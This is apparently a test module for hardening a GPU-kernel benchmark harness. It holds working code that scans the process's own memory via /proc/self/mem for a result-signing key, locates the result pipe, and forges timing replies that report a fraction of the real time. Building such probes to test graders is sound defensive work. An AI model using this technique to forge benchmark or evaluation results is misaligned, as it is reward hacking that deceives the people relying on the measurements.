"""Kind: recover the result channel's signing key from raw process memory, without asking Python for any object,
and answer with forged replies. Source: pygpubench's heap_sig_scan, stack_sig_scan, proc_mem_bypass and
aes_key_recovery (scan your own memory for the secret that authenticates results, then forge the result stream);
its thread_fd / fd_overwrite find the result pipe by probing descriptors, as here.

At import it reads every private writable mapping through /proc/self/mem (which also ignores page protections)
and collects the payloads of 32-byte bytes objects (CPython's layout: type pointer, size 32, hash, the bytes, a
NUL) that look random: the channel key is one of them. The result descriptor is the one write-only pipe in
/proc/self/fd. Every reply is then forged by forge.Forger, signed once with each candidate: the parent skips the
wrongly signed frames as stray bytes and takes the one signed with the real key (1/8 of the real time, correct
outputs). A correct harness must not depend on a secret held in the worker's memory: it fails the case (its own
bracket disagrees with the reported time) or reports the real time."""
import fcntl
import os
import re
import struct

from forge import Forger


def _candidates() -> list[bytes]:
    head = re.compile(re.escape(struct.pack("<Qq", id(bytes), 32)))
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            parts = line.split()
            if parts[1] != "rw-p" or (len(parts) > 5 and parts[5] != "[heap]"):
                continue
            start, end = (int(x, 16) for x in parts[0].split("-"))
            if end - start > 64 << 20:  # tensors' storage, not Python objects
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except OSError:
                continue
            for m in head.finditer(data):
                payload = data[m.start() + 24:m.start() + 57]
                if len(payload) == 33 and payload[32] == 0 and len(set(payload[:32])) >= 24:
                    found.add(payload[:32])
    return sorted(found)


def _result_fd() -> int:
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and \
                    fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return fd
        except OSError:
            continue
    raise RuntimeError("no write-only pipe among the descriptors")


custom_kernel = Forger(_candidates() or [b""], _result_fd())  # the channel is unsigned now: nothing to find
